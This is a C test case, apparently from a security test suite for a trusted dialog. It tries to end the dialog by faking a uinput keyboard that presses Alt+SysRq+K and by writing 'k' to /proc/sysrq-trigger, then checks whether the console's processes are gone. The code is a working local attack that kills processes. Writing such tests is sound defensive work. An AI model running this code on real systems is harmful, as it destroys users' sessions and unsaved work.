// SPDX-License-Identifier: Apache-2.0
/*
 * Ends the dialog by the kernel's own keys: a made-up keyboard presses Alt, SysRq and K,
 * which kills whoever is on the console in front, and /proc/sysrq-trigger is told to.
 *
 * attack: sysrq_sak
 * class: input
 * when: session
 * judge: self
 * dialog: tty
 * defence: confinement
 * why: the trusted dialog is on no console; kernel.sysrq is 0, and the REE can neither
 *	make keyboards nor write to /proc
 */
#include <dirent.h>
#include <fcntl.h>
#include <linux/input.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "file.h"
#include "report.h"
#include "uinput.h"

#define CONSOLE	(4 << 8 | 1)	/* tty_nr of /dev/tty1 in /proc/PID/stat */

static bool is_on_console(const char *pid)
{
	char path[300], text[512], *rest;
	int terminal;

	snprintf(path, sizeof(path), "/proc/%s/stat", pid);
	if (file_read(path, text, sizeof(text)) <= 0)
		return false;
	/* "PID (NAME) STATE PARENT GROUP SESSION TERMINAL ..." */
	rest = strrchr(text, ')');
	return rest && sscanf(rest, ") %*c %*d %*d %*d %d", &terminal) == 1 && terminal == CONSOLE;
}

static int count_on_console(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int count = 0;

	while (proc && (entry = readdir(proc)))
		if (atoi(entry->d_name) > 0)
			count += is_on_console(entry->d_name);
	if (proc)
		closedir(proc);
	return count;
}

static void press_sak(int fd)
{
	static const unsigned short codes[] = { KEY_LEFTALT, KEY_SYSRQ, KEY_K };
	struct input_event events[2] = { { .type = EV_KEY }, { .type = EV_SYN } };
	int i;

	for (i = 0; i < 6; i++) {
		events[0].code = i < 3 ? codes[i] : codes[5 - i];
		events[0].value = i < 3;
		(void)!write(fd, events, sizeof(events));
		attack_wait(30);
	}
}

int main(void)
{
	const struct input_id id = { .bustype = BUS_USB };
	int before = count_on_console(), after, fd, ret;

	attack_init();
	fd = uinput_keyboard("keyboard", &id);
	attack_ready();
	if (fd >= 0)
		press_sak(fd);
	else
		attack_note("no keyboard can be made: %s", strerror(-fd));
	ret = file_write("/proc/sysrq-trigger", "k");
	if (ret)
		attack_note("/proc/sysrq-trigger: %s", strerror(-ret));
	attack_wait(1000);
	after = count_on_console();
	if (before && !after)
		attack_succeeded("the %d programs of the console are gone", before);
	attack_failed("%d programs are on the console, there were %d", after, before);
}
